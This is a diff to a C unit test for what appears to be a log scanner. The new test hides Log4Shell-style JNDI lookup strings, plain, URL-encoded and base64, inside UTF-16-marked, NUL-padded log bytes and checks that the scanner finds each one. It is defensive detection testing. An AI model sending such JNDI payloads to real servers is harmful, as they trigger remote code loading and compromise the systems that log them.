@@ -174,7 +174,7 @@ static struct seen search(struct slice bytes, bool regular, const struct text_li
         t.limits = *limits;
     t.lines.hit = on_hit;
     t.lines.ctx = &s;
-    t.on = (struct text_events){&s, on_begin, on_end, on_incomplete};
+    t.on = (struct text_events){&s, on_begin, on_end, NULL, on_incomplete};
     (void)buf_add_str(&t.label, "f");
     assert_ok(text_search_file(&t, fd, regular, bytes.n, &e));
     text_search_done(&t);
@@ -386,12 +386,41 @@ static void utf16_logs(void **state)
     }
 }
 
+/* Who writes a mark and NULs into a log of bytes hides nothing in it. */
+static void bytes_behind_a_mark(void **state)
+{
+    (void)state;
+    static const char *const payloads[] = {"${jndi:ldap://h/a}", "%24%7bjndi:ldap://h/a}",
+                                           "\x01${jndi:ldap://h/a}\x01",
+                                           "JHtqbmRpOmxkYXA6Ly9oL2F9JHtqbmRpOmxkYXA6Ly9oL2F9"};
+    static const char *const marks[] = {"\xff\xfe", "\xfe\xff"};
+    for (size_t mark = 0; mark < 2; mark++) {
+        for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
+            for (size_t shift = 0; shift < 6; shift++) {
+                struct buf b;
+                buf_init(&b, MIB(1));
+                (void)buf_add_str(&b, marks[mark]);
+                for (int k = 0; k < 100; k++)
+                    (void)buf_add(&b, "a\0", 2);
+                (void)buf_add(&b, "\n\0\n\0abcdef\0", shift);
+                (void)buf_add_str(&b, "\nGET /");
+                (void)buf_add_str(&b, payloads[i]);
+                (void)buf_add(&b, " \0 HTTP\n", 8);
+                struct seen s = search(buf_slice(&b), true, NULL);
+                if (s.hits != 1)
+                    fail_msg("mark %zu, %s, %zu: %zu", mark, payloads[i], shift, s.hits);
+                buf_done(&b);
+            }
+        }
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(each_in_each),    cmocka_unit_test(cut_at_every_byte),
         cmocka_unit_test(limits_are_told), cmocka_unit_test(depth_is_told),
-        cmocka_unit_test(utf16_logs),
+        cmocka_unit_test(utf16_logs),      cmocka_unit_test(bytes_behind_a_mark),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
